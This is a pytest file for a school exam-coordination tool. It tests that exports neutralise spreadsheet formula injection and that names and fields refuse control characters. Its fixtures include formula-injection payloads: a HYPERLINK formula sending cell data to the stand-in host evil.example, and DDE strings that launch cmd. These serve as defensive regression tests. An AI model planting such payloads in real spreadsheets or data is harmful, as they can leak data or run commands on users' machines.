"""Issue 20, text from the school's data: what people type or import is brought to one
form (NFC, single spaces) and refused when it holds control or invisible characters,
naming the cell or field; and no text that reaches an exported xlsx or CSV can run
there as a formula."""

from __future__ import annotations

import csv
import io
import unicodedata
from datetime import datetime, timezone

import pytest
from openpyxl import load_workbook

from coordinator.analytics import export as analytics_export
from coordinator.analytics import report as analytics_report
from coordinator.school import codes, forms, protocol, results, retention, rooms, roster, schedule, settings, upload
from coordinator.school.errors import (
    ClassListError,
    CodesError,
    ResultsValidationError,
    RetentionError,
    RoomsError,
    SettingsError,
    UploadError,
)
from coordinator.school.subjects import get_subject
from vpr_common.text import FORMULA_STARTS, clean_text, safe_cell

EVIL = ['=HYPERLINK("http://evil.example/?q="&A1,"Открыть")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "＝1+1"]


def _cells_of_xlsx(data: bytes) -> list:
    wb = load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def _assert_inert_xlsx(data: bytes) -> list[str]:
    texts = []
    for c in _cells_of_xlsx(data):
        assert c.data_type != "f", (c.coordinate, c.value)
        if isinstance(c.value, str):
            assert not c.value.startswith(FORMULA_STARTS), (c.coordinate, c.value)
            texts.append(c.value)
    return texts


def _assert_inert_csv(data: bytes) -> list[str]:
    rows = list(csv.reader(data.decode("utf-8-sig").splitlines(), delimiter=";"))
    cells = [v for r in rows for v in r]
    for v in cells:
        assert not v.startswith(FORMULA_STARTS), v
    return cells


def test_regression_export_formula_injection_escaped(store, key, tmp_path, demo):
    """Regression (issue 20): the school's name typed as ``=HYPERLINK(...)`` became a live
    formula in the federal form, and so did a pupil's "name" in the analytics workbook.
    Every text cell of every export - results form and its CSV twin, template, upload
    form, analytics - is now inert (a leading apostrophe), and the form still imports."""
    settings.set_info(store, name=EVIL[0], code="390001", municipality=EVIL[1])
    lst = tmp_path / "list.csv"
    lst.write_text("Класс;ФИО;Английский язык\n" + "".join(f"8А;{n} Иванов;{4}\n" for n in
                                                          ["=ГИПЕРССЫЛКА(\"http://evil\",\"Ваня\")", "@Петров",
                                                           "+Сидорова", "-Козлов", "Орлова"]),
                   encoding="utf-8")
    roster.import_class_list(store, lst, key)
    codes.generate(store)
    eng8 = get_subject(store, "eng8")
    schedule.set_item(store, "eng8", "2026-04-15", "2026-04-18", [])
    active = codes.active_codes(store)
    results.save_entries(store, eng8, [results.Entry(c.code, 1, (5, 2, 5, 6, 6, i)) for i, c in enumerate(active)],
                         results.Source.CLI)
    out = tmp_path / "res.xlsx"
    forms.export_results(store, eng8, out, key=key)
    texts = _assert_inert_xlsx(out.read_bytes())
    assert f"'{EVIL[0]}" in texts and f"'{EVIL[1]}" in texts  # kept, readable, never run
    assert f"'{EVIL[1]}" in _assert_inert_csv(out.with_suffix(".csv").read_bytes())
    forms.write_template(store, eng8, tmp_path / "tpl.xlsx", key=key)
    _assert_inert_xlsx((tmp_path / "tpl.xlsx").read_bytes())
    prepared = upload.prepare(store, eng8, tmp_path / "up", key=key)
    _assert_inert_xlsx(prepared.xlsx.read_bytes())
    _assert_inert_csv(prepared.csv.read_bytes())
    assert forms.import_form(store, eng8, out, now_utc=datetime(2026, 4, 16, tzinfo=timezone.utc)).stored == 5
    rep = analytics_report.build(store, "eng8", protocol_key=key)
    names = _assert_inert_xlsx(analytics_export.xlsx_bytes(rep))
    assert "'@Петров Иванов" in names and "'=ГИПЕРССЫЛКА(\"http://evil\",\"Ваня\") Иванов" in names


def test_safe_cell_leaves_plain_values():
    assert [safe_cell(v) for v in ("Иванов", 5, None, "8А", "X", "отсутствовал", 2.5)] == [
        "Иванов", 5, None, "8А", "X", "отсутствовал", 2.5]
    assert [safe_cell(v) for v in EVIL] == ["'" + v for v in EVIL]


@pytest.mark.parametrize("bad, where", [("\x00", "U+0000 (NUL)"), ("\x1b[31m", "U+001B (ESC)"),
                                        ("\u202e", "U+202E (смена направления письма)"),
                                        ("\u200b", "U+200B (пробел нулевой ширины)"), ("\x07", "U+0007")])
def test_regression_control_chars_refused_in_names_and_fields(store, key, tmp_path, demo, bad, where):
    """Regression (issue 20): NUL and other control characters were accepted in names and
    every other text field. Each is refused with a message that names the cell or the
    field and the character - never the text around it."""
    lst = tmp_path / "list.csv"
    lst.write_text(f"Класс;Фамилия;Имя\n8А;Орлова;Мария\n8А;Пет{bad}ров;Пётр\n8А;Сидоров;Арк{bad}адий\n",
                   encoding="utf-8")
    with pytest.raises(ClassListError) as e:
        roster.import_class_list(store, lst, key)
    assert f"Ячейка B3: в ФИО недопустимый символ {where}" in e.value.message_ru
    assert f"Ячейка C4: в ФИО недопустимый символ {where}" in e.value.message_ru
    assert "Пет" not in e.value.message_ru and "Арк" not in e.value.message_ru
    refusals = [
        (SettingsError, lambda: settings.set_info(store, name=f"МАОУ СОШ{bad} №4"), "Название ОО: недопустимый"),
        (SettingsError, lambda: settings.set_info(store, municipality=f"Черн{bad}яховск"), "Муниципалитет:"),
        (RoomsError, lambda: rooms.save_room(store, f"Кабинет{bad}12", 10), "Название аудитории:"),
        (RoomsError, lambda: rooms.save_room(store, "Кабинет 12", 10, [f"ПК{bad}1"]), "Станция:"),
    ]
    for error, call, text in refusals:
        with pytest.raises(error) as e:
            call()
        assert text in e.value.message_ru and where in e.value.message_ru, e.value.message_ru
    rooms.save_room(store, "Кабинет 12", 10)
    with pytest.raises(RoomsError) as e:
        rooms.assign_staff(store, "Кабинет 12", "15.04.2026", rooms.StaffRole.ORGANIZER, f"Смирнова{bad} О. И.")
    assert "ФИО (организатор в аудитории):" in e.value.message_ru and where in e.value.message_ru
    roster.add_counts(store, {"8Б": 2})
    codes.generate(store)
    code = codes.active_codes(store)[0].code
    eng8 = get_subject(store, "eng8")
    with pytest.raises(ResultsValidationError) as e:
        results.mark_absent(store, eng8, code, f"болезнь{bad}", None)
    assert "reason: недопустимый символ" in e.value.message_ru and where in e.value.message_ru
    with pytest.raises(CodesError) as e:
        codes.revoke(store, code, f"листок{bad} потерян")
    assert "Причина отзыва:" in e.value.message_ru
    with pytest.raises(UploadError) as e:
        upload.configure(store, key, "https://sbor.example/api", f"login{bad}", "пароль")
    assert "Логин сервиса сбора:" in e.value.message_ru
    with pytest.raises(RetentionError) as e:
        _retention_refuses(store, eng8, f"Смирнова{bad}")
    assert "Кто подтверждает удаление:" in e.value.message_ru


def _retention_refuses(store, eng8, who):
    schedule.set_item(store, "eng8", "2026-04-15", None, [])
    code = codes.active_codes(store)[0].code
    results.save_entries(store, eng8, [results.Entry(code, 1, (0,) * 6)], results.Source.CLI)
    retention.set_months(store, 1)
    retention.delete_due(store, confirmed=True, confirmed_by=who, today=datetime(2030, 1, 1).date())


def test_regression_names_one_form_nfc_and_spaces(store, key, tmp_path, demo):
    """«й» as и + combining breve (a Mac's export), a non-breaking space and a tab
    between the words: stored as the same name a Windows keyboard gives, so the second
    copy is caught as the same pupil."""
    composed = "Йожина Анна Сергеевна"
    decomposed = unicodedata.normalize("NFD", composed).replace(" ", "\u00a0 \t", 1)
    assert decomposed != composed and clean_text(decomposed) == composed
    lst = tmp_path / "list.csv"
    lst.write_text(f"Класс;ФИО\n8А;{decomposed}\n8А;{composed}\n", encoding="utf-8")
    with pytest.raises(ClassListError) as e:
        roster.import_class_list(store, lst, key)
    assert "Строка 3: те же ФИО, что в строке 2" in e.value.message_ru
    lst.write_text(f"Класс;ФИО\n8А;{decomposed}\n", encoding="utf-8")
    roster.import_class_list(store, lst, key)
    assert list(protocol.read_names(store, key).values()) == [composed]
    info = settings.set_info(store, name="  МАОУ\u00a0 СОШ   №4 ", municipality=unicodedata.normalize("NFD", "Йошкар-Ола"))
    assert (info.name, info.municipality) == ("МАОУ СОШ №4", "Йошкар-Ола")
